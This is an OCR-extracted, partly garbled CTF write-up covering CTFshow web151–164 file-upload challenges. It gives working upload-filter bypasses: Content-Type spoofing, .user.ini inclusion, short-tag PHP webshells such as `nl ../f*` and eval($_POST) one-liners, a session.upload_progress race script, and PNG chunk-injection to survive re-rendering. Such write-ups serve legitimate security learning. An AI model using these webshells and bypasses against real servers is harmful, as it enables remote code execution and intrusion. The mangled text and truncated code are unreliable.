CTFshow question brushing Diary - WEB - file upload

Keywords: PHP html5 wechat

web151 front bypass

Simply change exts:png to php on the front end



/upload/shell.php?shell=system("tac ../flag.php");

Web152 content type bypass

Instead of changing the front end this time, change the content type directly in bp to image/png

Summarize the common content type types

Common mediaformat types are as follows:
text/html :  HTML format
text/plain : Plain text format
text/xml :  XML format
image/gif : gif Picture format
image/jpeg : jpg Picture format
image/png: png Picture format

more: link


The backend only detects PHP, which is not case sensitive. Although it is said that it is passed on, it is found that things are not as simple as expected, because the file is directly downloaded when accessing shell.pHp, indicating that the file is not parsed

You can use the fuzzy dictionary and recommend the fuzzy dicts master

It is found that. user.ini can be uploaded

since PHP 5.3.0 Up, PHP Support per directory INI File configuration. Such files are only CGI´╝ĆFastCGI SAPI handle. This feature enables PECL of htscanner Extension void. If your PHP Run in modularity Apache Inside, use .htaccess Files have the same effect.Except the Lord php.ini outside, PHP It will also be scanned under each directory INI File, from executed PHP The directory where the file is located began to rise to web Root directory( $_SERVER['DOCUMENT_ROOT'] Specified). If executed PHP File in web Outside the root directory, only the directory is scanned.

stay .user.ini Stylized INI Only files withPHP_INI_PERDIR and PHP_INI_USER Patterned INI Settings can be recognized.

When in PHP_INI_PERDIR and PHP_ INI_ In user mode, the user.ini in the directory is equivalent to the description of the directory, and the settings in user.ini will be identified first

The. user.ini file has two special settings

 Equivalent to in each php Add at the end of the document include("xxxx")
 Equivalent to file header plus include("xxx")

Utilization method

First upload a file with a one sentence picture of the Trojan horse

Then upload the user.ini file containing the settings


As mentioned earlier, user.ini works only when it is in the directory. If there is no PHP file in the directory, it will not work. index.php exists in uploadExecute the command to get the flag

web154 short tag bypass

Tip: the backend cannot perform single two verification

Uploaded a one sentence Trojan named shell.png and found a prompt

The file content should be filtered

The first is to test the PHP tag

<?php ?>

It is found that the deleted files can be uploaded successfully. Just like the above question, upload. user.ini and shell.png files. The content of PNG files is one sentence. The upload order of these two files does not matter. user.ini takes effect in real time and does not need to be restarted by apache. user.ini does not need to be changed after uploading. PNG files can be overwritten as long as the file name is correct

Try bypassing with short tags

<? echo '123';?>

The premise is to enable the configuration parameter short_open_tags=on

Test failed

<?=(expression)?>  Equivalent to <?php echo (expression)?>
shell.png Document content:<?=(`nl ../f*`)?>

Test successful

<% echo '123';%>

The premise is to enable the configuration parameter asp_tags=on. After testing, it is found that versions 7.0 and above cannot be used after modification, but 500 errors are reported. However, versions below 7.0 can be used after modifying the configuration.

The discovery is not effective<script language="php">echo '123'; </script>

There is no need to modify the parameter switch, but it can only be used below 7.0


Use the second method

web155 short tag bypass 2

Upload prompt: file upload failed. Failure reason: the file type is not compliant

Found PHP version 5.6 ok

The label on the question can be used

Upload. user.ini, content


Upload shell.png, content

<?=(`nl ../f*`)?>
The test found that short labels are also OK
<? echo `tac ../f*`;?>

web156 bypass []

On the basis of the above question, the file content has added filtering and fuzz y

It is found that [has been filtered, and in the picture horse we passed in, a sentence is required for the Trojan horse to accept the parameter $_GET []The first method is to execute the command directly

<?=(`nl ../f*`)?>

The second method

Replace []

Picture content <? = Eval ($_post{1});? >

web157-159 bypass {} and;

On the basis of the above question, {} and semicolons are added to the file content

Execute command directly

<?=(`nl ../f*`)?>

web160 - bypass backquotes

After fuzz ing, I found that () parentheses are filtered, backquotes and some keywords

You can use the log to contain and bypass the picture contentBecause the log is filtered, it is bypassed by splicing

Same as before

View source code

web161 - add header

On the basis of the previous question, add the file header GIF89A. It's strange that the front-end filters png, but the file header needs GIF file

The web162-163 session file contains

I learned to upload files at the file inclusion, and included files using session.upload_progress

The uploaded content should start with GIF89A and contain png string

Upload. user.ini first

When uploading png pictures, the flag string cannot appear in the contentConstruction front end

<!DOCTYPE html>
<form action="ip address" method="POST" enctype="multipart/form-data">
<input type="hidden" name="PHP_SESSION_UPLOAD_PROGRESS" value="2333" />
<input type="file" name="file" />
<input type="submit" value="submit" />

If the browser keeps visiting / upload /, it is possible to brush out the flag

You can also use python scripts

import requests
import threading
    'PHP_SESSION_UPLOAD_PROGRESS':'<?php system("tac ../f*");?>'
    'PHPSESSID': sess

def write():
    while True:
        r = session.post(url1,data=data1,files=file,cookies=cookies)
def read():
    while True:
        r = session.get(url2)
        if 'flag' in r.text:
threads = [threading.Thread(target=write),
for t in threads:Web164 PNG secondary rendering bypass

It is found that after successful upload, it is not accessed in the form of directory, but a file pointer

Note: there may be files containing, we only need to upload a picture

Make picture horse

copy shell.gif /b + shell.php /a 111.gif

Download the uploaded picture and find that the picture content has changed, indicating that the background has rendered the picture twice

Different picture formats have different effects on secondary rendering

  • GIF

For the secondary rendering that bypasses gif, you only need to find the position that has not changed before and after rendering, and then write the php code in, and you can successfully upload the image with php code• PNG

png picture consists of more than three data blocks.

Png defines two types of data blocks, one is called critical chunks, which are standarddata blocks, and the other is called auxiliary chunks, which are optional data blocks. Key data blocks define three standard data blocks (IHDR,IDAT, IEND), and each PNG file must contain them.

Data block structure

nameNumber of bytesexplain
Length4 bytesSpecifies the length of the data field in the data block, and its length does not exceed (31st power of 2 - 1) bytes
Chunk Type Code4 bytesThe block type code consists of ASCII letters (A-Z and A-Z)
Chunk DataVariable lengthStores data specified by Chunk Type Code
CRC (cyclic redundancy detection)4 bytesStores cyclic redundancy codes used to detect errors

The value in CRC(cyclic redundancy check) field is calculated from the data in Chunk Type Code field and Chunk Data field. The specific CRC algorithm is defined in ISO 3309 and ITU-T V.42, and its value is calculated according to the following CRC code generation polynomial:


Analysis data block


Data block IHDR(header chunk): it contains the basic information of the image data stored in the PNG file and appears inthe PNG data stream as the first data block, and there can only be one file header data block in a PNG data stream.

The file header data block consists of 13 bytes, and its format is as follows.

Name of the domainNumber of bytesexplain
Width4 bytesImage width in pixels
Height4 bytesImage height in pixels
Bit depth1 bytesImage attempt: index color image: 1, 2, 4 or 8 gray image: 1, 2, 4, 8 or 6 true color image: 8 or 16
ColorType1 bytesColor type: grayscale image: 1, 2, 4, 8 or 16 true color image: 8 or 16 index color image: 1, 2, 4 or 8 grayscale image with a-channel data: 8 or 16 true color image with a-channel data: 8 or 16
Compression method4 bytesCompression method (LZ777 derived algorithm)
Filter method4 bytesFilter method
Interlace method4 bytesInterlaced method: non interlaced method (7-pass interlaced method developed by Adam M.Costello)


The palette PLTE data block is an auxiliary data block. For the index image, the palette information is necessary. The color index of the palette is numberedfrom 0, followed by 1, 2... And the number of colors in the palette cannot exceed the number of colors specified in the color depth (for example, when the image color depth is 4, the number of colors in the palette cannot exceed 2 ^ 4 = 16). Otherwise, this will lead to the illegal PNG image.


Image data chunk IDAT(image data chunk): it stores actual data and can contain multiple image data chunks in continuous order in the data stream.

IDAT stores the real data information of the image. Therefore, if we can understand the structure of IDAT, we can easily generate PNG images


End of image data iend (image tracker chunk): it is used to mark that the PNG file or data stream has ended and must be placed at the end of the file.

If we carefully observe the PNG file, we will find that the 12 characters at the end of the file should always look like this:

00 00 00 00 49 45 4E 44 AE 42 60 82

Two ways of making png Trojan horse with secondary rendering

First method: write PLTE data blockThe bottom layer of php mainly performs CRC verification when verifying PLTE data blocks, so you can insert php code in the chunk data field, then recalculate the corresponding CRC value and modify it.

This method is only effective for png pictures of indexed color images. When selecting png pictures, you can identify. 03 as indexed color images according to the color type of IHDR data block.

1. Write php code in PLTE data block;

2. Calculate CRC of PLTE data block;

CRC script

import binascii
import re

png = open(r'2.png','rb')
a = png.read()
hexstr = binascii.b2a_hex(a)

''' PLTE crc '''
data =  '504c5445'+ re.findall('504c5445(.*?)49444154',hexstr)[0]
crc = binascii.crc32(data[:-16].decode('hex')) & 0xffffffff
print hex(crc)

Operation results:


3. Modify CRC value;

4.Verification;

Upload the modified png image, download it to the local and then open it.

The second method is to write the IDAT data block

Here are scripts written by foreign Daniel,which can be run directly.

$p = array(0xa3, 0x9f, 0x67, 0xf7, 0x0e, 0x93, 0x1b, 0x23,
           0xbe, 0x2c, 0x8a, 0xd0, 0x80, 0xf9, 0xe1, 0xae,
           0x22, 0xf6, 0xd9, 0x43, 0x5d, 0xfb, 0xae, 0xcc,
           0x5a, 0x01, 0xdc, 0x5a, 0x01, 0xdc, 0xa3, 0x9f,
           0x67, 0xa5, 0xbe, 0x5f, 0x76, 0x74, 0x5a, 0x4c,
           0xa1, 0x3f, 0x7a, 0xbf, 0x30, 0x6b, 0x88, 0x2d,
           0x60, 0x65, 0x7d, 0x52, 0x9d, 0xad, 0x88, 0xa1,
           0x66, 0x44, 0x50, 0x33);

